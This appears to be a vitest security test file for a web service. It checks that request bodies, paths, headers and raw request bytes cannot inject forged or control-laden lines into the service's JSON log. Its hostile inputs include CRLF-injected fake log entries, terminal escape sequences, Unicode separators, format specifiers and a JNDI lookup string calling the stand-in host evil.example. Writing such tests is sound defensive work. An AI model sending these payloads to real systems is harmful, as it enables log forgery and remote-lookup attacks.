/** @module-tag embedded/one-process */
import { randomUUID } from "node:crypto";
import { beforeAll, expect, it } from "vitest";
import { ownProductScene } from "../product-scenes.ts";
import { call, givenSignedInUser, newPerson, type Person } from "./client.ts";
import { exchange, jsonHeaders, send } from "./wire.ts";

// Its own product: the log omits lines of very frequent requests, and other files send many.
const stack = ownProductScene({ LOG_LEVEL: "debug" });
let person: Person & { token: string; id: string };
beforeAll(async () => {
  person = await givenSignedInUser(stack.url);
});

const forged = '{"level":"error","time":"2020-01-01T00:00:00.000Z","msg":"FORGED"}';
const hostile = [
  `a\r\n${forged}`,
  `a\n${forged}\n`,
  `a\\n${forged}`,
  `","level":"error","msg":"FORGED`,
  `"}\n${forged}`,
  "\u001b[2J\u001b[31mFORGED\u001b[0m",
  "\u001b]0;FORGED\u0007",
  "\u009b31mFORGED",
  "a\u2028FORGED\u2029b",
  "a\u0085FORGED",
  "\u0000FORGED\u007f\b\b\b\b",
  "\u202eDEGROF",
  "%s%d%j%o FORGED %c",
  ["$", "{jndi:ldap://evil.example/FORGED}"].join(""),
];
const names = [
  ...["user-agent", "referer", "x-request-id", "x-forwarded-for", "x-log-position", "cookie", "authorization"],
  ...["idempotency-key", "origin", "accept-language", "traceparent"],
];

/** Every complete line so far. The log is written in the background, so this waits for the line of a last request. */
const waitForAllLines = async (): Promise<string[]> => {
  const marker = `/api/marker-${randomUUID()}`;
  await call(stack.url, `GET ${marker}`);
  const written = () => stack.output().split("\n").slice(0, -1);
  await expect.poll(() => written().some((line) => line.includes(marker))).toBe(true);
  return written();
};
/** The lines logged since there were `since` lines, including those of the newest request. */
const loggedSince = async (since: number) => (await waitForAllLines()).slice(since);

const startedAt = Date.now();
const levels = ["debug", "info", "warn", "error"];
const controls = /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

const expectClean = (lines: string[], requests: number) => {
  expect(lines.length).toBeGreaterThanOrEqual(requests);
  for (const line of lines) {
    expect(line).not.toMatch(controls);
    const entry = JSON.parse(line);
    expect(levels).toContain(entry.level);
    expect(entry.msg).not.toContain("FORGED");
    expect(Date.parse(entry.time)).toBeGreaterThanOrEqual(startedAt);
  }
  expect(lines.filter((line) => JSON.parse(line).msg === "request").length).toBe(requests + 1);
};

it("IN-05 logs one line of JSON per request, whatever a field of its body contains", async () => {
  const since = (await waitForAllLines()).length;
  let requests = 0;
  for (const text of hostile) {
    const bodies: [string, string, object][] = [
      ["POST", "/api/auth/login", { email: text, password: text }],
      ["POST", "/api/auth/login", { email: person.email, password: text }],
      ["POST", "/api/auth/register", { ...newPerson(), username: text }],
      ["POST", "/api/auth/register", { ...newPerson(), email: `${text}@example.com` }],
      ["PUT", "/api/user/profile", { firstName: text, lastName: text }],
      ["POST", "/api/auth/login", { [text]: text }],
    ];
    for (const [method, path, body] of bodies) {
      expect((await call(stack.url, `${method} ${path}`, { token: person.token, body })).status).toBeLessThan(500);
      requests++;
    }
  }
  expectClean(await loggedSince(since), requests);
});

it("IN-05 logs one line of JSON per request, whatever the path, the query and the headers contain", async () => {
  const since = (await waitForAllLines()).length;
  let requests = 0;
  const body = "{}";
  for (const text of hostile) {
    const encoded = encodeURIComponent(text);
    const paths = [
      `/api/${encoded}`,
      `/${encoded}`,
      `/api/user/sessions/${encoded}`,
      `/api/auth/verify-email?token=${encoded}`,
    ];
    for (const path of paths) {
      const { status } = await send(stack.url, `DELETE ${path}`, {
        headers: { authorization: `Bearer ${person.token}` },
      });
      expect(status, path).toBeLessThan(500);
      requests++;
    }
    for (const name of names) {
      // A header may contain a tab, but no other control character.
      const value = Buffer.from(text.replaceAll(/[^\P{Cc}\t\u0080-\u009f]/gu, " ")).toString("latin1");
      const head = { host: new URL(stack.url).host, connection: "close", ...jsonHeaders(body), [name]: value };
      const lines = Object.entries(head).map(([key, one]) => `${key}: ${one}\r\n`);
      const raw = Buffer.from(`POST /api/auth/login HTTP/1.1\r\n${lines.join("")}\r\n${body}`, "latin1");
      expect(await exchange(stack.url, raw)).toMatch(/^HTTP\/1\.1 (?:400|403) /);
      requests++;
    }
  }
  expectClean(await loggedSince(since), requests);
});

it("IN-05 logs one line of JSON per request, whatever bytes its target contains", async () => {
  const since = (await waitForAllLines()).length;
  let requests = 0;
  const host = new URL(stack.url).host;
  for (let byte = 0; byte < 256; byte++) {
    const line = Buffer.concat([Buffer.from("GET /api/x"), Buffer.of(byte), Buffer.from("[31mFORGED")]);
    const rest = Buffer.from(` HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n\r\n`);
    const received = await exchange(stack.url, Buffer.concat([line, rest]));
    expect(received, String(byte)).toMatch(/^HTTP\/1\.1 (?:400|404) /);
    if (received.startsWith("HTTP/1.1 404")) requests++;
  }
  // Input that is not a valid request leaves no line.
  expect(requests).toBeGreaterThan(90);
  expectClean(await loggedSince(since), requests);
});
